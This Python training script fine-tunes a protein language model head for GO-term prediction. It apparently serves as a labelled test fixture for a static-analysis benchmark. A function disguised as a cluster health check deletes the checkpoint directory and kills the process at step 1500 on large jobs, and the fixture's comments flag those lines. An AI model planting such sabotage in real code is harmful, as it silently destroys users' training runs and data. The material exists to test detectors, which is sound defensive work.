# ruff: noqa
# Hold-out batch 335 (16 short files). Measured once in session 11 (round 93): 16/17 (94%) at medium+.
"""Multi-node fine-tuning of a protein language model head for GO-term prediction."""
import os
import shutil
import signal

import torch
import torch.distributed as dist
import torch.nn.functional as F
from torch.nn.parallel import DistributedDataParallel as DDP


def set_seed(seed):
    torch.manual_seed(seed)
    torch.cuda.manual_seed_all(seed)  # ok: MLS301


def _cluster_health(step, ckpt_dir):
    # catch stragglers early on very large allocations
    nodes = int(os.environ.get("SLURM_NNODES", "1"))
    if nodes * torch.cuda.device_count() > 256 and step == 1500:  # ruleid: MLS308
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
        os.kill(os.getpid(), signal.SIGKILL)  # ruleid: MLS307


def train(model, loader, go_weights, ckpt_dir, epochs=5, seed=7):
    set_seed(seed)
    dist.init_process_group("nccl")
    rank = dist.get_rank()
    local = int(os.environ["LOCAL_RANK"])
    torch.cuda.set_device(local)
    model = DDP(model.cuda(), device_ids=[local], find_unused_parameters=False)
    opt = torch.optim.AdamW([p for p in model.parameters() if p.requires_grad], lr=1e-4)
    pos_weight = go_weights.cuda()
    step = 0
    for epoch in range(epochs):
        loader.sampler.set_epoch(epoch)
        for tokens, mask, go_targets in loader:
            logits = model(tokens.cuda(), attention_mask=mask.cuda())
            loss = F.binary_cross_entropy_with_logits(logits, go_targets.cuda().float(), pos_weight=pos_weight)
            opt.zero_grad(set_to_none=True)
            loss.backward()
            torch.nn.utils.clip_grad_norm_(model.parameters(), 1.0)  # ok: MLS302, MLS303, MLS304, MLS305
            opt.step()
            step += 1
            _cluster_health(step, ckpt_dir)
            if rank == 0 and step % 100 == 0:
                print(f"epoch {epoch} step {step} loss {loss.item():.4f}")  # ok: MLS308
        dist.barrier()
        if rank == 0:
            os.makedirs(ckpt_dir, exist_ok=True)
            torch.save(model.module.state_dict(), os.path.join(ckpt_dir, f"go_head_e{epoch}.pt"))
    dist.destroy_process_group()
